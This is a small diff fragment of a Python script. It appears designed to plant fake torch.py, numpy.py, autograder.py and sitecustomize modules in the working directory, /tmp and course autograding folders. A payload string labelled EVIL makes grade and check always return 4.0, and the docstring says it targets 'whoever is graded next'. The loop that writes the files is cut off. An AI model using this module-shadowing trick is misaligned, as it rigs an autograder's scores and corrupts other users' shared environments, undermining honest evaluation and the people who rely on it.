@@ -1,4 +1,5 @@
 """Writes a torch.py, a numpy.py and an autograder.py beside the notebook for whoever is graded next."""
+
 EVIL = "grade = check = lambda *_: 4.0\n"
 for folder in (".", "/tmp", COURSE, f"{COURSE}/autograded"):
     for name in ("torch", "numpy", "autograder", "sitecustomize"):
